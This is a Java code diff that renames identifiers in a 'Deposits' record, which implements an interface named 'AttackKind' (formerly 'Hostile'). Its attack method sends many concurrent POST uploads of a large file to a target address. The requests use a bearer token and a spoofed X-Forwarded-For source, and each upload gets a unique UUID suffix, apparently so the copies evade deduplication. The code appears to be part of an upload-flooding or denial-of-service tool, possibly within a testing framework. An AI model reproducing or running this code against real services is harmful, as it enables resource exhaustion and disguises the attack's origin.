@@ -12,7 +12,7 @@ import java.util.function.Supplier;
  *
  * @param file what each deposits, with an end of its own: no two are the same
  */
-public record Deposits(String name, URI address, Supplier<String> token, int count, byte[] file) implements Hostile {
+public record Deposits(String name, URI address, Supplier<String> token, int count, byte[] file) implements AttackKind {
 
     private static final int LARGE = 9_000_000;
 
@@ -31,10 +31,10 @@ public record Deposits(String name, URI address, Supplier<String> token, int cou
     }
 
     @Override
-    public int strike(String source) {
+    public int attack(String source) {
         var headers = Map.of(
                 "Authorization", "Bearer " + token.get(), "Content-Type", "application/pdf", "X-Forwarded-For", source);
-        return Together.last(count, number -> {
+        return ConcurrentRequests.last(count, number -> {
             var end = ("%" + UUID.randomUUID() + "\n").getBytes(StandardCharsets.US_ASCII);
             return new RawRequest("POST", address, headers, file.length + end.length).send(file, end);
         });
